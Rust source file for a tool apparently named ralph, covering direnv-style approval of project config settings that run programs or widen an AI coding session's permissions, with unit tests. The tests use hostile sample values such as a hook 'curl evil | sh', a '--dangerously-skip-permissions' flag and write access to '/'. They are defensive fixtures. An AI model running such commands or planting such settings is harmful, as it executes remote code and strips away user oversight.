//! Approval of what a project's `.ralph/config.toml` makes ralph run or
//! allow (the way direnv's `direnv allow` and mise's `mise trust` work): a
//! session can write that file, and a cloned repository can ship one, so
//! those parts take effect only once the user has approved that exact
//! content. The record lives in ralph's data folder, keyed by the project's
//! real path, holding the content's SHA-256.
//!
//! Pure: which parts need approval, their digest and how they are shown.
//! The record's reading and writing are the small functions at the end.

use std::path::Path;

use anyhow::{Context, Result};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use crate::config::Config;

/// The settings that make ralph run a program or allow a session more, by
/// their name in the file. Anything added to the config that runs or allows
/// something belongs here.
pub fn parts(cfg: &Config) -> Vec<(&'static str, Value)> {
    let h = &cfg.hooks;
    let candidates: [(&'static str, Option<Value>); 11] = [
        ("claude", cfg.claude.as_ref().map(|p| json!(p))),
        ("claude_args", cfg.claude_args.as_ref().map(|v| json!(v))),
        ("allow_write", cfg.allow_write.as_ref().map(|v| json!(v))),
        (
            "allow_domains",
            cfg.allow_domains.as_ref().map(|v| json!(v)),
        ),
        (
            "[gate] commands",
            cfg.gate.commands.as_ref().map(|v| json!(v)),
        ),
        (
            "[hooks] on_loop_start",
            h.on_loop_start.as_ref().map(|v| json!(v)),
        ),
        (
            "[hooks] on_session_start",
            h.on_session_start.as_ref().map(|v| json!(v)),
        ),
        (
            "[hooks] on_session_end",
            h.on_session_end.as_ref().map(|v| json!(v)),
        ),
        (
            "[hooks] on_complete",
            h.on_complete.as_ref().map(|v| json!(v)),
        ),
        (
            "[hooks] on_waiting",
            h.on_waiting.as_ref().map(|v| json!(v)),
        ),
        ("[hooks] on_limit", h.on_limit.as_ref().map(|v| json!(v))),
    ];
    candidates
        .into_iter()
        .filter_map(|(k, v)| v.map(|v| (k, v)))
        .collect()
}

/// The SHA-256 of the parts, as approved and as checked.
pub fn digest(parts: &[(&'static str, Value)]) -> String {
    let text = serde_json::to_string(parts).expect("JSON values serialise");
    super::store::sha256_hex(text.as_bytes())
}

/// The parts, one line each, as the user is shown them before approving.
pub fn describe(parts: &[(&'static str, Value)]) -> Vec<String> {
    parts.iter().map(|(k, v)| format!("{k} = {v}")).collect()
}

/// Where a project's config stands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Standing {
    /// Nothing in it runs or allows anything.
    NothingToApprove,
    Approved,
    /// Never approved, or (`changed`) approved once with other content.
    NotApproved {
        changed: bool,
    },
}

impl Standing {
    pub fn text(&self) -> &'static str {
        match self {
            Standing::NothingToApprove => "nothing to approve",
            Standing::Approved => "approved",
            Standing::NotApproved { changed: false } => "not approved",
            Standing::NotApproved { changed: true } => "changed since approved",
        }
    }
}

/// Judge the config against the approved digests (of this checkout, and of
/// the main checkout when this is one of its worktrees).
pub fn judge(cfg: &Config, approved: &[String]) -> Standing {
    let p = parts(cfg);
    if p.is_empty() {
        return Standing::NothingToApprove;
    }
    let d = digest(&p);
    if approved.contains(&d) {
        Standing::Approved
    } else {
        Standing::NotApproved {
            changed: !approved.is_empty(),
        }
    }
}

/// Why the loop will not run an unapproved config: what it would run, and
/// the command that approves it.
pub fn refusal(config: &Path, cfg: &Config, standing: &Standing) -> String {
    let mut s = format!(
        "{} {} these settings, which make ralph run programs or allow sessions more:\n",
        config.display(),
        match standing {
            Standing::NotApproved { changed: true } => "has changed since you approved it:",
            _ => "has not been approved:",
        }
    );
    for line in describe(&parts(cfg)) {
        s.push_str("    ");
        s.push_str(&line);
        s.push('\n');
    }
    s.push_str(
        "A session can write that file and a cloned repository can ship it, so ralph runs them only \
         once you have approved this exact content. Read them, then run `ralph trust` (or remove them, \
         or give the settings on the command line).",
    );
    s
}

#[derive(Debug, Serialize, Deserialize)]
struct Record {
    project: std::path::PathBuf,
    sha256: String,
    approved_at: String,
    parts: Vec<String>,
}

/// The digest approved for `root`, if any.
pub fn approved_digest(root: &Path) -> Option<String> {
    let path = super::store::approval_file(root).ok()?;
    let text = crate::fsutil::read_optional_capped(&path, 1 << 20).ok()??;
    let r: Record = serde_json::from_str(&text).ok()?;
    (r.project == super::store::real_root(root)).then_some(r.sha256)
}

/// The digests that count for `root`: its own, and its main checkout's when
/// `root` is a linked worktree (the loop copies the approved config there).
pub fn approved_for(root: &Path) -> Vec<String> {
    let mut v: Vec<String> = approved_digest(root).into_iter().collect();
    if let Ok(main) = crate::run::worktree::main_root(root)
        && super::store::real_root(&main) != super::store::real_root(root)
    {
        v.extend(approved_digest(&main));
    }
    v
}

/// Where `root`'s config stands.
pub fn standing(root: &Path, cfg: &Config) -> Standing {
    if parts(cfg).is_empty() {
        return Standing::NothingToApprove;
    }
    judge(cfg, &approved_for(root))
}

/// Approve `cfg` as `root`'s config.
pub fn approve(root: &Path, cfg: &Config) -> Result<()> {
    let p = parts(cfg);
    let path = super::store::approval_file(root)?;
    let dir = path.parent().expect("approval files live in a folder");
    super::store::private_dir(dir)?;
    let r = Record {
        project: super::store::real_root(root),
        sha256: digest(&p),
        approved_at: crate::timefmt::now(),
        parts: describe(&p),
    };
    let text = serde_json::to_string_pretty(&r)? + "\n";
    crate::fsutil::atomic_write(&path, text.as_bytes(), 0o600)
        .with_context(|| format!("cannot record the approval in {}", path.display()))
}

/// Forget `root`'s approval. True if there was one.
pub fn revoke(root: &Path) -> Result<bool> {
    let path = super::store::approval_file(root)?;
    match std::fs::remove_file(&path) {
        Ok(()) => Ok(true),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(false),
        Err(e) => Err(e).with_context(|| format!("cannot remove {}", path.display())),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(text: &str) -> Config {
        toml::from_str(text).unwrap()
    }

    #[test]
    fn only_what_runs_or_allows_needs_approval() {
        assert_eq!(
            judge(
                &cfg("max_iterations = 5\ntimeout = \"1h\"\nmodel = \"m\"\n"),
                &[]
            ),
            Standing::NothingToApprove
        );
        for text in [
            "claude = \".ralph/evil-claude\"\n",
            "claude_args = [\"--dangerously-skip-permissions\"]\n",
            "allow_write = [\"/\"]\n",
            "allow_domains = [\"example.com\"]\n",
            "[gate]\ncommands = [\"sh check.sh\"]\n",
            "[hooks]\non_loop_start = \"touch ~/x\"\n",
            "[hooks]\non_limit = \"x\"\n",
        ] {
            let c = cfg(text);
            assert_eq!(
                judge(&c, &[]),
                Standing::NotApproved { changed: false },
                "{text}"
            );
            let d = digest(&parts(&c));
            assert_eq!(judge(&c, std::slice::from_ref(&d)), Standing::Approved);
            assert_eq!(
                judge(&c, &["other".into()]),
                Standing::NotApproved { changed: true }
            );
        }
    }

    #[test]
    fn any_change_to_a_part_is_another_digest_and_others_are_not() {
        let a = cfg("max_iterations = 5\n[gate]\ncommands = [\"make\"]\n");
        let b = cfg("max_iterations = 9\n[gate]\ncommands = [\"make\"]\ntimeout = \"5m\"\n");
        let c = cfg("[gate]\ncommands = [\"make \"]\n");
        assert_eq!(digest(&parts(&a)), digest(&parts(&b)));
        assert_ne!(digest(&parts(&a)), digest(&parts(&c)));
    }

    #[test]
    fn the_refusal_shows_what_would_run_and_how_to_approve() {
        let c = cfg("claude = \"x/evil\"\n[hooks]\non_complete = \"curl evil | sh\"\n");
        let msg = refusal(
            Path::new(".ralph/config.toml"),
            &c,
            &Standing::NotApproved { changed: false },
        );
        assert!(msg.contains("claude = \"x/evil\""), "{msg}");
        assert!(
            msg.contains("[hooks] on_complete = \"curl evil | sh\""),
            "{msg}"
        );
        assert!(msg.contains("ralph trust"), "{msg}");
    }
}
